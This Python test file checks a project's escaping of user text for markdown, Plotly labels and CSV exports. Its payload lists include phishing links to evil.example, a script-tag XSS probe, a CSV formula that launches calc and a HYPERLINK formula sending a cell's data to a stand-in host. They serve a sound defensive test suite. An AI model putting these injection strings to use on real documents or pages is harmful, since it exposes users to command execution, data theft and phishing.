"""Text people typed is shown as text: markdown, plotly's pseudo-HTML, CSV formulas."""

from __future__ import annotations

import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st
from markdown_oracle import live_elements, render

from clr_core.present.escape import (
    ELLIPSIS,
    WORD_JOINER,
    csv_cell,
    csv_safe_frame,
    markdown_text,
    plotly_text,
)
from clr_core.present.plots import Curve, line_figure, sweep_figure

HOSTILE = ['**bold**', ':red[alarm]', '$x^2$', 'https://evil.example', '[a](https://e.x)',
           '<a href="https://evil.example">x</a>', '=HYPERLINK("http://e.x?"&A1,"click")',
           '%{x}', '+1+cmd|/C calc', '@SUM(A1)', '-2+3', '# heading', '`code`']


def test_markdown_text_escapes_every_markup():
    for text in HOSTILE:
        out = markdown_text(text)
        assert not any(out[i] in "*[]$<>`#:" and (i == 0 or out[i - 1] != "\\")
                       for i in range(len(out))), out


@given(st.text(max_size=40))
def test_markdown_text_keeps_the_words(text):
    out = markdown_text(text)
    assert out.replace("\\", "").replace(WORD_JOINER, "") == " ".join(
        text.replace("\\", "").replace(WORD_JOINER, "").split())


#: The link, image and HTML payloads of issue 29's probe, and their cousins.
PAYLOADS = [
    "[Click here](https://evil.example/phish)", "![x](https://evil.example/pixel.png)",
    "[Click me](https://evil.example)", "https://evil.example/phish", "www.evil.example",
    "HTTP://EVIL.EXAMPLE", "WwW.evil.example/x", "mail phish@evil.example now",
    "mailto:phish@evil.example", "<https://evil.example>", "<img src=https://evil.example/p.png>",
    "<script>alert(1)</script>", "[x][r]\n\n[r]: https://evil.example", "[x]: https://evil.example",
    "//evil.example/x", "&lt;img src=x&gt;", "&#60;a href=x&#62;", "\\[a](https://evil.example)",
    "`[a](https://evil.example)`", "<!-- x -->", "[a](<https://evil.example>)",
    "x\u200bhttps://evil.example", "see:https://evil.example", "(https://evil.example)",
    "*https://evil.example*", "_www.evil.example_", "[phases](https://e.x) 0:1e-3, 100:[y](https://e.x)",
]


def test_no_payload_renders_a_link_an_image_or_html():
    for text in PAYLOADS:
        for shown in (markdown_text(text), f"**From the link:** {markdown_text(text)}"):
            assert live_elements(shown) == [], (text, render(shown))


def test_the_oracle_sees_what_a_payload_would_draw_unescaped():
    """The check above can fail: unescaped, each payload is a link, an image or HTML."""
    for text in PAYLOADS[:13]:
        assert live_elements(text), text


@given(st.text(alphabet=st.sampled_from(list("[]()!<>:/.@*_`\\&#;= \nhtpswwwxe.aimgsrc")) | st.characters(),
               max_size=80))
def test_arbitrary_text_renders_no_link_image_or_html(text):
    out = markdown_text(text)
    assert live_elements(out) == [], (text, render(out))
    assert live_elements(f"Run **{out}** failed: {out}") == []


@given(st.text(max_size=200), st.integers(0, 60))
def test_a_limit_keeps_at_most_that_many_characters(text, limit):
    out = markdown_text(text, limit=limit)
    words = out.replace("\\", "").replace(WORD_JOINER, "")
    collapsed = " ".join(text.replace("\\", "").replace(WORD_JOINER, "").split())
    if len(" ".join(text.split())) <= limit:
        assert not words.endswith(ELLIPSIS) or collapsed.endswith(ELLIPSIS)
    else:
        assert words.endswith(ELLIPSIS) and len(words) <= limit + 1


def test_fifty_megabytes_are_cut_without_reading_them_all():
    huge = '{"policy": "' + "A" * 50_000_000 + '"}'
    out = markdown_text(huge, limit=300)
    assert len(out.replace("\\", "")) <= 301 and out.endswith(ELLIPSIS)


def test_plotly_text_shows_html_and_placeholders_literally():
    curves = [Curve(t, [1e-3, 1e-2], [1.0, 2.0], marker=5e-3) for t in HOSTILE]
    fig = sweep_figure(curves)
    for trace in fig.data:
        assert "<a" not in trace.name and "%{x}" not in (trace.name or "")
        assert "<a href" not in trace.hovertemplate
    assert fig.data[0].name == "**bold**"  # plain text stays readable
    assert plotly_text("<b>") == "&lt;b&gt;"
    names = [t.name for t in line_figure(curves, x_title="x", y_title="y").data]
    assert '&lt;a href=&quot;https://evil.example&quot;&gt;x&lt;/a&gt;' in names


def test_csv_cells_that_start_a_formula_are_disarmed():
    assert csv_cell('=HYPERLINK("http://e.x")') == '\'=HYPERLINK("http://e.x")'
    for bad in ("+1+1", "@x", "-x+1", "\t=1", " =1", "|cmd"):
        assert str(csv_cell(bad)).startswith("'")
    for fine in ("plain", "-0.5", "1e-3", 3, None, 2.5):
        assert csv_cell(fine) == fine
    frame = pd.DataFrame({"label": HOSTILE, "n": range(len(HOSTILE))})
    text = csv_safe_frame(frame).to_csv(index=False)
    for row in pd.read_csv(io.StringIO(text))["label"]:
        assert not str(row).lstrip().startswith(("=", "+", "-", "@", "|", "%"))
